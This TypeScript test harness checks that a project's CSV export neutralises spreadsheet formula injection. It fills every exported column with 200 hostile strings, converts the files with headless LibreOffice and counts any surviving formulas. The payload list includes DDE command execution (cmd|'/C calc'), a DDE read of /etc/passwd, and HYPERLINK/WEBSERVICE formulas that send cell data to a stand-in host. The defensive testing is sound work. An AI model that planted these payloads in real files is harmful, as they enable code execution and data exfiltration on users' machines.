import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { framingCore } from '@/lib/domain/framing-core'
import type { Codec } from '@/lib/formats/codec'
import { rawCsv, safeCsv, withByteOrderMark } from '@/lib/formats/csv'
import { flatColumns, TABLE_IDS } from '@/lib/formats/dataset'
import { TABLES } from '@/lib/formats/registry'
import { readArchive } from '@/lib/ingest/archive'
import { runProgram } from '../../run-program'
import type { Line } from '../editor/verdict'

const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', ' =', '\uFEFF=', '"=', '\u00A0=', "'=", '“=', ';=', ',=', '=-+@']
const FORMULAS = ['1+1', 'A1', 'SUM(A1:A9)', "cmd|'/C calc'!A0", 'HYPERLINK("http://canary.invalid/?"&A1,"open")', 'WEBSERVICE("http://canary.invalid")', 'DDE("soffice","/etc/passwd","A1")', '"1";1+1', 'INFO("directory")', 'NOW()\n=NOW()']

/** 200 cells that a spreadsheet might compute. */
export const CELLS = BEGINNINGS.flatMap((beginning) => FORMULAS.map((formula) => beginning + formula))

const MEMBERS = [...framingCore.dimensions.flatMap(({ key, attributes }) => attributes.map((attribute) => `${key}.${attribute.key}`)), ...framingCore.questions.map(({ key }) => key)]

/** Every column of every table that is exported, in each of which each of the strings stands once. */
export function hostileTable(codec: Codec): { text: string; cells: number } {
  const columns = TABLE_IDS.flatMap((id) => flatColumns(TABLES[id], TABLES[id].spread ? MEMBERS : []).map((column) => `${id}.${column}`))
  const rows = CELLS.map((cell) => codec.row(columns, Object.fromEntries(columns.map((column) => [column, cell]))))
  return { text: codec.head(columns) + rows.join(''), cells: columns.length * rows.length }
}

/** Comma, quotation mark, UTF-8, from line 1; fields in quotes are not taken for text, and what looks like a number or date is: the least careful way to open it. */
const AS_CARELESS = 'CSV:44,34,76,1,,0,false,true'

/** What a spreadsheet program makes of the file: opened, stored in its own format, in Excel's and as CSV again. Null: there is none here. */
export async function openInSpreadsheet(): Promise<Line[] | null> {
  if ((await runProgram('soffice', ['--version'], { quiet: true })).code !== 0) return null
  const folder = await mkdtemp(path.join(tmpdir(), 'parallax-spreadsheet-'))
  try {
    const convert = async (name: string, codec: Codec) => {
      const { text, cells } = hostileTable(codec)
      const file = path.join(folder, `${name}.csv`)
      await writeFile(file, text)
      for (const format of ['fods', 'xlsx']) {
        const { code, said } = await runProgram('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', `--infilter=${AS_CARELESS}`, '--convert-to', format, '--outdir', folder, file], { quiet: true, milliseconds: 300_000 })
        if (code !== 0) throw new Error(`soffice: ${said}`)
      }
      const own = await readFile(path.join(folder, `${name}.fods`), 'utf8')
      return { text, cells, own: formulasIn(own), errors: own.match(/value-type="error"|calcext:value-type="error"/g)?.length ?? 0, excel: await formulasInExcel(path.join(folder, `${name}.xlsx`)), shown: await asShown(folder, name) }
    }
    const safe = await convert('safe', withByteOrderMark(safeCsv))
    const raw = await convert('raw', rawCsv)
    return [
      { what: 'formulas in the .ods', value: safe.own + safe.errors, bound: 0, unit: '', from: `of ${safe.cells} cells: ${CELLS.length} strings in every column of every table` },
      { what: 'formulas in the .xlsx', value: safe.excel, bound: 0, unit: '', from: '' },
      { what: 'cells that show another text', value: differing(safe.text, safe.shown), bound: 0, unit: '', from: 'stored as CSV again; white space aside' },
      { what: 'formulas without the guard', value: raw.own, bound: null, unit: '', from: `${raw.excel} in the .xlsx: the check sees what it is to see` },
    ]
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

const formulasIn = (document: string): number => document.match(/table:formula=/g)?.length ?? 0

async function formulasInExcel(file: string): Promise<number> {
  const read = await readArchive(await readFile(file))
  if (!read.ok) throw new Error(read.error.reason)
  const sheets = read.value.filter(({ path: part }) => part.startsWith('xl/worksheets/'))
  return sheets.reduce((sum, { bytes }) => sum + (new TextDecoder().decode(bytes).match(/<f[ >]/g)?.length ?? 0), 0)
}

async function asShown(folder: string, name: string): Promise<string> {
  const { code, said } = await runProgram('soffice', [`-env:UserInstallation=file://${folder}/profile`, '--headless', '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', path.join(folder, 'shown'), path.join(folder, `${name}.fods`)], { quiet: true, milliseconds: 300_000 })
  if (code !== 0) throw new Error(`soffice: ${said}`)
  return readFile(path.join(folder, 'shown', `${name}.csv`), 'utf8')
}

function differing(text: string, shown: string): number {
  const rows = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true })
  const words = (cell: string) => cell.replace(/\s+/g, '')
  const same = (one: string, other: string) => words(one) === words(other)
  const [written, back] = [rows(text), rows(shown)]
  return written.reduce((sum, cells, i) => sum + cells.filter((cell, k) => !same(cell, back[i]?.[k] ?? '')).length, 0)
}
